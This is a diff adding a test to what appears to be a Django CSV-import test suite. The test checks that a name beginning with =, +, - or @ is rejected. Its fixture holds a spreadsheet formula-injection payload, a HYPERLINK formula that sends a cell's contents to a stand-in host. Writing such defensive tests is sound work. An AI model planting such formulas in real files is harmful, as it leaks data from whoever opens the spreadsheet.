@@ -150,3 +150,11 @@ def test_the_template_reads_back_without_the_apostrophe_that_keeps_its_cells_tex
     assert ";'@lodie38;" in content.decode("utf-8")  # a spreadsheet opens it as text, not a formula
     (row,) = read_table(SimpleUploadedFile("modele.csv", content))
     assert row["values"]["social_handle"] == "@lodie38"
+
+
+def test_an_imported_name_a_spreadsheet_would_evaluate_is_refused_on_its_line(coordinator_client, programme):
+    content = HEADER + 'Élodie;Martin;;F;;;;02/03/2026;\n=HYPERLINK("http://x/?"&A2);Roux;;F;;;;02/03/2026;\n'
+    upload(coordinator_client, content)
+    page = preview(coordinator_client)
+    assert [status for _line, status in statuses(page)][1] == "error"
+    assert "Un nom ne peut pas commencer par =, +, - ou @." in page.content.decode()
